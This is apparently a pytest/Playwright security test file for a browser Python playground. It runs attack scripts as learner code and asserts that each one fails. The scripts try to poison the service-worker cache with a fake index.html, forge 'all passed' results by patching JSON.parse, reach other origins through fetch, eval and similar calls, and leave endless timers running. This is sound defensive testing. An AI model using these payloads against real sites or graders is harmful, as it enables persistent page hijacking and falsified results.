"""Learner code can't reach the page, what it stores, or anything outside the origin (issues 10 and 21).

Python runs in the worker and reaches the worker's whole global scope through Pyodide's `js` module. These
tests run the attacks found in the issues, from Run tests and from Run code, and check that none of them gets
through: the offline copy can't be poisoned, fake results never show, the worker's scope holds only what the
allowlist keeps, nothing leaves the origin even on a host that sends no Content-Security-Policy, and work a run
leaves behind is never blamed on the next run.
"""

import json
import re
import subprocess
import threading
import urllib.error
import urllib.request
import zipfile
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Page, expect

from pageutil import (
    paste_code,
    record_statuses,
    results_region,
    run_and_wait,
    run_code,
    wait_until_ready,
)
from problems import all_problems, first_problem
from serving import DIST, ROOT, plain_static_server, served_dist

pytestmark = pytest.mark.browser

PROBLEM = first_problem("autograd")
SOLUTION = PROBLEM.solution
REQUIRED = len(PROBLEM.required)
ALL_PASSED, NONE_PASSED = f"{REQUIRED}/{REQUIRED} passed", f"0/{REQUIRED} passed"
WRONG = "class Value:\n    pass\n"
EVIL_MARK = "pwned-by-learner-code"

# Every name learner code finds on the worker's global scope and on the prototypes it inherits from, but
# Object.prototype (which every object shares): a name static/run/lockdown.js does not keep is a failure, so that
# no API a browser adds reaches learner code unnoticed.
GLOBAL_NAMES = """\
import json
import js

names = set()
link = js.self
while js.Object.prototype.isPrototypeOf(link):
    names.update(js.Object.getOwnPropertyNames(link))
    link = js.Object.getPrototypeOf(link)
print("names:", json.dumps(sorted(names)))
"""
# Never to be kept, whatever the allowlist says: storage, the page and other contexts, the network, compiling.
NEVER_KEPT = {"caches", "indexedDB", "postMessage", "Worker", "SharedWorker", "BroadcastChannel", "CacheStorage",
              "navigator", "cookieStore", "webkitRequestFileSystem", "webkitRequestFileSystemSync",
              "webkitResolveLocalFileSystemURL", "webkitResolveLocalFileSystemSyncURL", "fetch", "XMLHttpRequest",
              "WebSocket", "WebSocketStream", "WebTransport", "EventSource", "importScripts", "fonts", "FontFace",
              "eval", "location"}

# Every way out of the origin we know of, each tried at a server elsewhere (<elsewhere>: its origin):
# each must fail at once. One can only fail later (a promise): only that server can tell that it did.
ESCAPES = """\
import json
import pyodide.code
import js
import pyodide_js

ELSEWHERE = "<elsewhere>"
IMPORT = f"import('{ELSEWHERE}/imported.js')"
allowed = []


def attempt(way, leave):
    try:
        leave()
        allowed.append(way)
    except Exception:
        pass


def xhr():
    request = js.XMLHttpRequest.new()
    request.open("GET", ELSEWHERE + "/xhr", False)
    request.send()


attempt("fetch", lambda: js.fetch(ELSEWHERE + "/fetch"))
attempt("XMLHttpRequest", xhr)
attempt("WebSocket", lambda: js.WebSocket.new(ELSEWHERE.replace("http", "ws") + "/websocket"))
attempt("EventSource", lambda: js.EventSource.new(ELSEWHERE + "/eventsource"))
attempt("WebTransport", lambda: js.WebTransport.new(ELSEWHERE.replace("http", "https") + "/webtransport"))
attempt("importScripts", lambda: js.importScripts(ELSEWHERE + "/imported.js"))
attempt("a font", lambda: js.FontFace.new("f", f"url({ELSEWHERE}/font)").load())
attempt("eval", lambda: js.eval(IMPORT))
attempt("pyodide.code.run_js", lambda: pyodide.code.run_js(IMPORT))
attempt("Function", lambda: js.Function(f"return {IMPORT}")())
attempt("new Function", lambda: js.Function.new(f"return {IMPORT}")())
attempt("a function's constructor", lambda: js.Object.constructor(f"return {IMPORT}")())
attempt("an async function's constructor", lambda: pyodide_js.loadPackage.constructor(f"return {IMPORT}")())
attempt("a timer given a string", lambda: js.setTimeout(IMPORT, 0))
attempt("an interval given a string", lambda: js.setInterval(IMPORT, 1000))
pyodide_js.loadPackage(ELSEWHERE + "/package.whl")
print("allowed:", json.dumps(allowed))
"""

# The repro: put a page of our own in place of index.html in every cache, every way we can think of.
POISON = f"""\
import js
from pyodide.ffi import create_proxy, to_js

EVIL = "<!doctype html><title>Autograd Playground</title><h1 id='{EVIL_MARK}'>{EVIL_MARK}</h1>"
EVIL += "<script>localStorage.setItem('{EVIL_MARK}', 'yes')</script>"


def evil_response():
    headers = to_js({{"Content-Type": "text/html"}}, dict_converter=js.Object.fromEntries)
    return js.Response.new(EVIL, to_js({{"headers": headers}}, dict_converter=js.Object.fromEntries))


def put(cache):
    for path in ["/", "/index.html"]:
        cache.put(js.location.origin + path, evil_response())


def poison(storage):
    storage.keys().then(create_proxy(lambda names: [storage.open(name).then(create_proxy(put)) for name in names]))
    storage.open("workbox-precache-v2-" + js.location.origin + "/").then(create_proxy(put))


def getters():
    yield "js.caches", lambda: js.caches
    yield "js.self.caches", lambda: js.self.caches
    yield "js.globalThis.caches", lambda: js.globalThis.caches
    link = js.self
    while link:
        found = js.Object.getOwnPropertyDescriptor(link, "caches")
        if found:
            yield "a prototype's getter", lambda found=found: found.get.call(js.self)
        link = js.Object.getPrototypeOf(link)
    yield "CacheStorage.prototype", lambda: js.Object.create(js.CacheStorage.prototype)
    yield "a nested worker", lambda: js.Worker.new(js.location.href)


reached = []
for way, get in getters():
    try:
        storage = get()
    except Exception:
        continue
    if storage is not None:
        reached.append(way)
        try:
            poison(storage)
        except Exception:
            pass
print("reached:", reached)
"""

# The repro: results the page would show as "all passed", posted every way we can think of, in the
# worker's own message shape (a Result, schema version 4).
FAKE_RESULTS = f"""\
import js
from pyodide.ffi import create_proxy, to_js

IDS = {[test["id"] for test in PROBLEM.meta["tests"]]!r}
TESTS = [{{"id": i, "name": i, "tier": "required", "outcome": "passed", "message": "", "output": "", "duration": 0,
          "line": None, "traceback": "", "plugins": {{}}, "hint": None, "progress": None}} for i in IDS]
FAKE = {{"version": 4, "kind": "tests", "problem": {PROBLEM.id!r}, "status": "finished", "error": None,
        "stopped": None, "output": "", "tests": TESTS, "passed": len(IDS), "total": len(IDS),
        "challenge": {{"passed": 0, "total": 0}}, "solved": True, "shared_message": None, "plugins": {{}},
        "timings": {{"total": 0.1}}}}


def fake(message_id):
    message = {{"type": "result", "id": message_id, "result": FAKE, "heap": {{"bytes": 1, "used": 1}}}}
    return to_js(message, dict_converter=js.Object.fromEntries)


for send in [lambda m: js.postMessage(m), lambda m: js.self.postMessage(m),
             lambda m: js.Object.getPrototypeOf(js.self).postMessage.call(js.self, m)]:
    for message_id in range(1, 40):
        try:
            send(fake(message_id))
        except Exception:
            pass
# Whatever the worker posts or parses from now on: our fake results.
js.JSON.parse = create_proxy(lambda *args: to_js(FAKE, dict_converter=js.Object.fromEntries))
try:  # not in the worker's scope (lockdown.js): patched if it were
    js.MessagePort.prototype.postMessage = create_proxy(lambda *args: None)
except AttributeError:
    pass
js.self.onmessage = None

class Value:
    pass
"""

# Work left behind that, run later, would never end: it must be cancelled when its run ends.
SPIN = "\ndef spin(*args):\n    while True:\n        pass\n\n"
LEFTOVERS = {
    "js.setInterval": "import js\nfrom pyodide.ffi import create_proxy\n" + SPIN
                      + "js.setInterval(create_proxy(spin), 1)\n",
    "js.setTimeout": "import js\nfrom pyodide.ffi import create_proxy\n" + SPIN
                     + "js.setTimeout(create_proxy(spin), 50)\n",
    "asyncio call_later": "import asyncio\n" + SPIN + "asyncio.get_event_loop().call_later(0.05, spin)\n",
    "asyncio call_soon": "import asyncio\n" + SPIN + "asyncio.get_event_loop().call_soon(spin)\n",
    "pyodide set_interval": "from pyodide.ffi.wrappers import set_interval\n" + SPIN + "set_interval(spin, 1)\n",
    "js.self.onmessage = None": "import js\n\njs.self.onmessage = None\njs.self.onerror = None\n",
}


def run_tests_with(page: Page, code: str) -> str:
    paste_code(page, code)
    return run_and_wait(page)


# What an attacker who got past the worker would do: put a page of their own in every cache, in place of
# index.html (and of "/"), and junk in place of every other file.
POISON_FROM_PAGE = """async (mark) => {
  const evil = `<!doctype html><h1 id="${mark}">${mark}</h1><script>localStorage.setItem("${mark}", "yes")</script>`;
  const html = {headers: {"Content-Type": "text/html"}};
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) {
      const page = /\\/(index\\.html)?$/.test(new URL(request.url).pathname);
      await cache.put(request, new Response(page ? evil : `/* ${mark} */`, page ? html : {}));
    }
    await cache.put(location.origin + "/", new Response(evil, html));
  }
}"""
CACHED_PAGES = """async () => {
  const pages = [];
  for (const name of await caches.keys()) {
    for (const path of ["/", "/index.html"]) {
      const found = await (await caches.open(name)).match(location.origin + path);
      if (found) pages.push(await found.text());
    }
  }
  return pages;
}"""


def offline_copy_ready(page: Page) -> None:
    page.evaluate("async () => { await navigator.serviceWorker.ready; }")


def assert_the_page_is_ours(page: Page, response, problem) -> None:
    assert response.from_service_worker
    assert response.headers.get("content-security-policy", "").startswith("default-src 'self'"), response.headers
    expect(page.get_by_role("heading", name=problem["title"])).to_be_visible()
    assert page.locator(f"#{EVIL_MARK}").count() == 0
    assert page.evaluate("(mark) => localStorage.getItem(mark)", EVIL_MARK) is None
    assert page.evaluate("() => crossOriginIsolated")


def test_python_cannot_poison_the_offline_copy(context, page, problem):
    wait_until_ready(page)
    offline_copy_ready(page)
    run_tests_with(page, POISON + SOLUTION)
    assert "reached: []" in run_code(page, POISON)
    assert page.evaluate(CACHED_PAGES) and not any(EVIL_MARK in text for text in page.evaluate(CACHED_PAGES))
    assert_the_page_is_ours(page, page.reload(), problem)


def test_the_service_worker_serves_only_our_files(context, page, problem):
    wait_until_ready(page)
    offline_copy_ready(page)
    page.evaluate(POISON_FROM_PAGE, EVIL_MARK)
    assert_the_page_is_ours(page, page.reload(), problem)
    assert run_tests_with(page, SOLUTION).startswith(ALL_PASSED)  # Python's files too: fetched afresh
    served = page.evaluate("() => Promise.all(['/', '/index.html'].map(async (p) => (await fetch(p)).text()))")
    assert all("<html" in text and EVIL_MARK not in text for text in served)


def test_the_service_worker_serves_our_headers_not_the_stored_ones(browser, problem):
    context = browser.new_context()
    page = context.new_page()
    with served_dist() as origin:  # a server of this test's own, to stop
        page.goto(f"{origin}/#/{problem['id']}")
        wait_until_ready(page)
        offline_copy_ready(page)
        page.evaluate("""async () => {
            for (const name of await caches.keys()) {
                const cache = await caches.open(name);
                for (const request of await cache.keys()) {
                    await cache.put(request, new Response(await (await cache.match(request)).arrayBuffer()));
                }
            }
        }""")
    assert_the_page_is_ours(page, page.reload(), problem)  # offline: only the service worker could send them
    assert run_tests_with(page, SOLUTION).startswith(ALL_PASSED)
    context.close()


def kept_names() -> set[str]:
    """What static/run/lockdown.js lets learner code keep."""
    script = "import('./static/run/lockdown.js').then((lockdown) => console.log(JSON.stringify(lockdown.KEPT)))"
    found = subprocess.run(["node", "--input-type=module", "-e", script], cwd=ROOT, capture_output=True, text=True,
                           check=True)
    return set(json.loads(found.stdout))


def printed(output: str, label: str):
    return json.loads(re.search(rf"^{label}: (.*)$", output, re.M).group(1))


def test_learner_code_finds_only_what_the_allowlist_keeps(page):
    kept = kept_names()
    assert not kept & NEVER_KEPT
    for _ in range(2):  # and still after a run
        names = set(printed(run_code(page, GLOBAL_NAMES), "names"))
        assert names - kept == set()
        assert {"self", "setTimeout", "TextDecoder", "WebAssembly"} <= names  # the probe does see the scope


@contextmanager
def recording_server():
    """A server on another origin that answers every request (as a script, to any origin) and records its path."""
    received = []

    class Recorder(BaseHTTPRequestHandler):
        def do_GET(self):
            received.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Type", "text/javascript")
            self.end_headers()
            self.wfile.write(b"export default 1;\n")

        do_POST = do_HEAD = do_OPTIONS = do_GET

        def log_message(self, *args):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", received
    finally:
        server.shutdown()
        server.server_close()


def test_nothing_leaves_the_origin_on_a_host_without_our_headers(browser, tmp_path):
    """On a first visit to a plain static host, nothing sends the worker a Content-Security-Policy: the worker's
    scope alone has to keep learner code in the origin."""
    (tmp_path / "playground").symlink_to(DIST)
    with plain_static_server(tmp_path) as origin, recording_server() as (elsewhere, received):
        context = browser.new_context()
        page = context.new_page()
        response = page.goto(f"{origin}/playground/#/{PROBLEM.id}")
        assert "content-security-policy" not in response.headers
        wait_until_ready(page)
        output = run_code(page, ESCAPES.replace("<elsewhere>", elsewhere))
        assert "Ran in" in output, output
        assert printed(output, "allowed") == []
        paste_code(page, SOLUTION)
        assert run_and_wait(page).startswith(ALL_PASSED)
        context.close()
    assert received == []


def test_fake_results_never_show(page):
    assert run_tests_with(page, FAKE_RESULTS).startswith(NONE_PASSED)
    expect(results_region(page).locator('[data-status="passed"]')).to_have_count(0)
    assert "Ran in" in run_code(page, FAKE_RESULTS)  # the same from Run code
    assert run_tests_with(page, WRONG).startswith(NONE_PASSED)  # what was patched does not last either
    assert run_tests_with(page, SOLUTION).startswith(ALL_PASSED)


@pytest.mark.parametrize("how", list(LEFTOVERS))
def test_work_left_by_a_run_is_never_blamed_on_the_next(page, how):
    leftover = LEFTOVERS[how]
    wait_until_ready(page)
    record_statuses(page)
    assert run_tests_with(page, leftover + SOLUTION).startswith(ALL_PASSED)
    assert "Ran in" in run_code(page, leftover)
    summary = run_tests_with(page, SOLUTION)
    assert summary.startswith(ALL_PASSED) and "time limit" not in summary, summary
    seconds = float(re.search(r"passed in ([\d.]+) s", summary).group(1))
    assert seconds < 5, summary  # not slowed down by a timer still firing
    expect(page.get_by_role("status").first).to_have_text("Ready")
    crashes = [text for text in page.evaluate("() => window.__statuses") if re.search("crash", text, re.I)]
    assert not crashes


def test_a_promise_left_spinning_holds_up_no_later_run(page):
    """A promise callback can't be cancelled, but the worker it spins in is thrown away with its run."""
    stuck = ("import js\nfrom pyodide.ffi import create_proxy\n" + SPIN
             + "js.Promise.resolve().then(create_proxy(spin))\n")
    assert "Ran in" in run_code(page, stuck)
    assert run_tests_with(page, SOLUTION).startswith(ALL_PASSED)


def test_every_response_of_the_server_carries_the_security_headers(server_url):
    with pytest.raises(urllib.error.HTTPError) as missing:
        urllib.request.urlopen(server_url + "/no-such-file.html")
    error = missing.value
    assert error.code == 404
    with urllib.request.urlopen(server_url + "/") as found:
        expected = {name: found.headers[name] for name in [
            "Content-Security-Policy", "Cross-Origin-Opener-Policy", "Cross-Origin-Embedder-Policy",
            "Cross-Origin-Resource-Policy", "X-Content-Type-Options", "Referrer-Policy"]}
    assert all(expected.values()), expected
    assert {name: error.headers[name] for name in expected} == expected


def test_answers_never_ship():
    """Each problem's archive holds its tests, not its reference solution or its mistakes. No script, archive or
    bundle holds a solution, but one that a later problem provides as the module it builds on (shown and
    imported there): each solution is a file of its own, assets/solution-<hash>.py, which the page fetches only
    when the learner asks for the reference (test_reference.py)."""
    manifest = json.loads((DIST / "manifest.json").read_text())
    problems = all_problems()
    assert set(manifest["problems"]) == {problem.id for problem in problems}
    for problem in problems:
        archive_path = DIST / manifest["problems"][problem.id]
        with zipfile.ZipFile(archive_path) as archive:
            names = archive.namelist()
        assert f"{problem.id}/test_{problem.id}.py" in names, names
        assert all(name.startswith(f"{problem.id}/") for name in names), names
        assert not [name for name in names if name.endswith("solution.py") or "/mistakes/" in name], names
        assert problem.solution.encode() not in archive_path.read_bytes(), archive_path
    provided = {path.read_bytes() for problem in problems for path in problem.provided.values()}
    secret = {problem.id: problem.solution.encode() for problem in problems}
    secret = {id: solution for id, solution in secret.items() if not any(solution in text for text in provided)}
    assert secret  # the last problem's, at least
    solution_files = {path.read_bytes(): path for path in (DIST / "assets").glob("solution-*.py")}
    assert {problem.solution.encode() for problem in problems} == set(solution_files)  # each is there, apart
    for path in DIST.rglob("*"):
        if path.is_file() and path.suffix not in (".br", ".gz"):  # the compressed twins hold what the rest hold
            if path in solution_files.values():
                continue
            data = path.read_bytes()
            assert not [id for id, solution in secret.items() if solution in data], path


def test_a_flood_of_updates_is_capped_in_the_worker_and_said(page):
    """Learner code can call what the plots plugin sends with: what reaches the page is capped in size and rate,
    out of Python's reach, and the results say that some were left out."""
    flood = ("import playground.live as live\n"
             "for _ in range(20):\n    live.live.send('plots', 'x' * 2_000_000)  # each over the size cap\n"
             "for _ in range(2_000):\n    live.live.send('plots', {})  # far over the rate cap\n" + SOLUTION)
    assert run_tests_with(page, flood).startswith(ALL_PASSED)
    expect(results_region(page)).to_contain_text("of the updates your code sent the page while it ran were left out")
